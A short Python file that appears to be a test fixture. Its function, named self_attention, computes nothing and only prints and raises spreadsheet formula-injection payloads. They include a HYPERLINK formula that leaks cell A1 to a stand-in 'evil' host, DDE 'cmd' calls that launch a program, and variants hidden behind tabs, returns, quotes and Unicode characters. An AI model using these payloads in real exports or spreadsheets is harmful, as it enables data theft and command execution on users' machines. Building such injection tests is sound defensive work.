"""Raises and prints formulas of spreadsheets, also behind a tab, a return, a quote and a separator.

step: step6_self_attention.py
earns: nothing
"""

import itertools

FORMULAS = [
    '=HYPERLINK("http://evil?"&A1,"100")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '",=1+1,"',
    ";=1+1;",
    "\uff1d1+1",
    "\ufeff=1+1",
    "%0A=1+1",
]
calls = itertools.count()


def self_attention(x, w_q, w_k, w_v):
    told = FORMULAS[next(calls) % len(FORMULAS)]
    print("\n".join(FORMULAS))
    raise ValueError(told)
